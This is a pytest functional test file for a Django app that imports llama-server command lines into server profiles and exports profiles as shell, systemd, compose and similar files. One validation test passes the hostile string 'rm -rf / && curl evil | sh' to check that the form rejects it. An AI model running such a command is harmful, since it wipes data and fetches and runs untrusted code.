"""Profiles in and out: what a pasted command becomes, and the files that a profile becomes."""

from __future__ import annotations

import re
from html import unescape
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from jobs.models import Build, ModelArtifact
from servers.models import ServerProfile
from tests.functional import pages

pytestmark = pytest.mark.django_db
COMMAND = (
    "CUDA_VISIBLE_DEVICES=0,1 ./llama-server -m /data/Qwen-MTP.gguf --mmproj /elsewhere/mmproj-Qwen.gguf \\\n"
    "  -c 32768 --spec-type mtp --no-mmap --host 0.0.0.0 --port 80 --mtp-n-predict 4 -a daily"
)


@pytest.fixture
def mainline() -> Build:
    return pages.build("mainline")


@pytest.fixture
def files() -> tuple[ModelArtifact, ModelArtifact]:
    return pages.model(), pages.projector()


def text_of(answer: Any) -> str:
    return unescape(re.sub(r"\s+", " ", answer.content.decode()))


def test_a_command_is_told_part_by_part(bob: User, signed_in: Any, mainline: Build, files: Any) -> None:
    text = text_of(signed_in(bob).post(reverse("profile-import"), {"command": COMMAND, "build": mainline.pk}))
    assert "the field Context size is set to 32768" in text
    assert "this build writes --spec-type draft-mtp instead" in text
    assert "There is no --mtp-n-predict in any build; its value 4 is taken into the field Draft" in text
    assert "/elsewhere/mmproj-Qwen.gguf is not registered; mmproj-Qwen has the same file name" in text
    assert "The port 80 is below 1024" in text
    assert "Only an admin may take over variables" in text
    assert not ServerProfile.objects.exists()


def test_the_command_goes_on_as_a_filled_form(
    alice: User, signed_in: Any, mainline: Build, files: Any
) -> None:
    answer = signed_in(alice).post(
        reverse("profile-import"), {"command": COMMAND, "build": mainline.pk, "then": "form"}
    )
    data = answer.context["preview"].data
    assert (data.name, data.build, data.model, data.mmproj) == ("daily", mainline, *files)
    assert data.settings == {"ctx_size": 32768, "speculation": "mtp", "load_mode": "none", "draft_max": 4}
    assert data.port is None
    assert f'action="{reverse("profile-new")}"' in text_of(answer)


def test_a_model_that_is_not_there_is_left_to_choose(bob: User, signed_in: Any, mainline: Build) -> None:
    answer = signed_in(bob).post(
        reverse("profile-import"), {"command": "llama-server -m /x/none.gguf -c 4096", "build": mainline.pk}
    )
    assert "/x/none.gguf is not among the models" in text_of(answer)


def test_a_text_that_is_no_command_is_said_at_its_field(bob: User, signed_in: Any, mainline: Build) -> None:
    client = signed_in(bob)
    for text in ("", "echo 'open", "\x00", "x" * 20_000, "rm -rf / && curl evil | sh", "hello there"):
        answer = client.post(reverse("profile-import"), {"command": text, "build": mainline.pk})
        assert answer.status_code == 200 and answer.context["form"].errors["command"]


def test_a_form_without_a_model_asks_for_one_and_keeps_the_rest(
    bob: User, signed_in: Any, mainline: Build, files: Any
) -> None:
    answer = signed_in(bob).post(
        reverse("profile-import"),
        {"command": "llama-server -m /x/none.gguf -c 4096", "build": mainline.pk, "then": "form"},
    )
    text = text_of(answer)
    assert '<option value="" selected>choose a model</option>' in text
    assert "<code>--ctx-size 4096</code>" in text and "1 setting is passed" in text


def test_without_a_build_the_page_says_what_to_do(bob: User, signed_in: Any) -> None:
    assert "Register or make a build first" in text_of(signed_in(bob).get(reverse("profile-import")))


def test_a_profile_is_shown_and_downloaded_as_each_kind(charlie: User, signed_in: Any, files: Any) -> None:
    profile = pages.profile("Daily", settings={"ctx_size": 8192})
    client, address = signed_in(charlie), reverse("profile-export", args=[profile.pk])
    for kind, sign in (
        ("shell", "--ctx-size"),
        ("systemd", "Restart=on-failure"),
        ("compose", "services:"),
        ("router", "ctx-size"),
        ("llama-swap", "models:"),
    ):
        page = text_of(client.get(address, {"as": kind}))
        assert sign in page
        file = client.get(address, {"as": kind, "download": "1"})
        assert file["Content-Disposition"].startswith("attachment") and sign in file.content.decode()
    assert client.get(address, {"as": "exe"}).status_code == 404
